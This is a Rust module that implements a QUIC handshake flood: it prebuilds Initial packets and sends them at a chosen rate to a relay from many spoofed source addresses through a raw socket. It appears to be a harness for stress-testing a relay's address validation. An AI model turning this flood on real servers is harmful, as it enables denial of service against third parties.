//! A handshake flood with forged sources: real QUIC Initial packets (a
//! ClientHello each, made by quinn-proto's client) sent from many source
//! addresses through a raw socket ([`crate::spoof::Spoofer`]). The relay's
//! answers go to the forged addresses, never to the flooder, as with a
//! spoofing attacker on the Internet: each Initial costs a relay without
//! address validation a handshake (a key share and a signature).

use crate::spoof::Spoofer;
use quinn_proto::{ClientConfig, Endpoint, EndpointConfig};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::time::{Duration, Instant};

/// `n` Initial packets of distinct connections to `relay`, made before the
/// flood so that making them costs the flood nothing.
pub fn initial_packets(
    relay: SocketAddr,
    server_name: &str,
    cfg: ClientConfig,
    n: usize,
) -> Vec<Vec<u8>> {
    let mut ep = Endpoint::new(Arc::new(EndpointConfig::default()), None, true, None);
    let mut out = Vec::with_capacity(n);
    let mut buf = Vec::with_capacity(1500);
    let now = Instant::now();
    while out.len() < n {
        let (_, mut conn) = ep
            .connect(now, cfg.clone(), relay, server_name)
            .expect("connect");
        buf.clear();
        if let Some(t) = conn.poll_transmit(now, 1, &mut buf) {
            out.push(buf[..t.size].to_vec());
        }
        // Dropped: its id may be reused, its packet stays valid.
        if out.len() % 1000 == 0 {
            ep = Endpoint::new(Arc::new(EndpointConfig::default()), None, true, None);
        }
    }
    out
}

/// What a flood did.
#[derive(Debug, Default)]
pub struct FloodStats {
    /// Initial packets sent.
    pub sent: AtomicU64,
}

/// A running flood (a thread), stopped by [`Flood::stop`] or its deadline.
pub struct Flood {
    stop: Arc<AtomicBool>,
    pub stats: Arc<FloodStats>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Flood {
    /// Send `packets` round-robin to `relay` at `per_s`, each from the next
    /// of `sources` (port 1024 onward), for at most `duration`.
    pub fn start(
        relay: SocketAddrV4,
        packets: Vec<Vec<u8>>,
        sources: Vec<Ipv4Addr>,
        per_s: u32,
        duration: Duration,
    ) -> Flood {
        let stop = Arc::new(AtomicBool::new(false));
        let stats = Arc::new(FloodStats::default());
        let (s, st) = (stop.clone(), stats.clone());
        let thread = std::thread::spawn(move || {
            let spoofer = Spoofer::new();
            let t0 = Instant::now();
            let mut k: u64 = 0;
            // In 1 ms ticks: each sends what is due by then.
            while !s.load(Relaxed) && t0.elapsed() < duration {
                let due = (t0.elapsed().as_secs_f64() * f64::from(per_s)) as u64;
                while k < due {
                    let i = k as usize;
                    let src = SocketAddrV4::new(
                        sources[i % sources.len()],
                        1024 + (i / sources.len() % 60_000) as u16,
                    );
                    spoofer.send(src, relay, &packets[i % packets.len()]);
                    st.sent.fetch_add(1, Relaxed);
                    k += 1;
                }
                std::thread::sleep(Duration::from_millis(1));
            }
        });
        Flood {
            stop,
            stats,
            thread: Some(thread),
        }
    }

    /// Stop and wait; returns the packets sent.
    pub fn stop(mut self) -> u64 {
        self.stop.store(true, Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
        self.stats.sent.load(Relaxed)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}
